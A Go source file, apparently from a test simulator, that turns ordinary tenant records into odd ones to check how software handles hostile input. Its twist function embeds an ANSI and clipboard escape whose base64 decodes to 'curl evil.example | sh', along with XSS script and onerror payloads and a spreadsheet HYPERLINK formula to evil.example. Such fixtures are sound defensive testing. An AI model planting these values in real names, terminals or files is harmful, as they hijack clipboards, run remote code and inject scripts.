package simulator

import (
	"fmt"
	"strings"
)

// oddity is what is odd about a tenant.
type oddity uint8

const (
	ordinary oddity = iota
	oddNoName
	oddNoDomain
	oddNothing
	oddManyDomains
	oddANSI
	oddClipboard
	oddNewline
	oddBidi
	oddZeroWidth
	oddLong
	oddHTML
	oddFormula
	oddities // their number
)

const (
	// oddEvery is how rare odd tenants are after the cast: one in so many.
	oddEvery    = 211
	longName    = 10_000 // runes
	manyDomains = 300
)

// String returns what is odd, in words.
func (o oddity) String() string {
	switch o {
	case oddNoName:
		return "no name"
	case oddNoDomain:
		return "no domain"
	case oddNothing:
		return "nothing but an id"
	case oddManyDomains:
		return "hundreds of domains"
	case oddANSI:
		return "ANSI escapes in its name"
	case oddClipboard:
		return "a clipboard escape in its name"
	case oddNewline:
		return "line breaks in its name"
	case oddBidi:
		return "bidirectional overrides in its name"
	case oddZeroWidth:
		return "zero-width characters in its name"
	case oddLong:
		return "a name of ten thousand characters"
	case oddHTML:
		return "HTML in its name"
	case oddFormula:
		return "a spreadsheet formula for a name"
	case ordinary, oddities:
	}
	return ""
}

// twist makes an ordinary tenant odd.
func (o oddity) twist(t *Truth) {
	t.Oddity = o.String()
	switch o {
	case oddNoName:
		t.Name = ""
	case oddNoDomain:
		t.Domain, t.Domains = "", nil
	case oddNothing:
		*t = Truth{ID: t.ID, Oddity: t.Oddity}
	case oddManyDomains:
		stem, _, _ := strings.Cut(t.Domain, ".")
		for i := range manyDomains {
			t.Domains = append(t.Domains, fmt.Sprintf("%s-site%03d.example", stem, i+1))
		}
	case oddANSI:
		first, rest, _ := strings.Cut(t.Name, " ")
		t.Name = first + " \x1b[2J\x1b[31m" + rest + "\x1b[0m\x1b]0;pwned\a\u009b5m"
	case oddClipboard:
		t.Name += "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\a"
	case oddNewline:
		t.Name = strings.Replace(t.Name, " ", "\r\n", 1) + "\n\u2028\t\x00" + "(2)"
	case oddBidi:
		t.Name = "\u202e" + t.Name + "\u202c \u2066(\u2069"
	case oddZeroWidth:
		t.Name = strings.Replace(t.Name, "a", "\u200ba\u200d\ufeff\u2060", 1) + "\u00ad"
	case oddLong:
		t.Name += " " + strings.Repeat("and Partners ", longName/len("and Partners ")+1)
		t.Name = string([]rune(t.Name)[:longName])
	case oddHTML:
		t.Name = `<b>` + t.Name + `</b><script>alert("1")</script>&amp;<img src=x onerror=alert(1)>`
	case oddFormula:
		t.Name = `=HYPERLINK("https://evil.example";"` + t.Name + `")`
	case ordinary, oddities:
	}
}
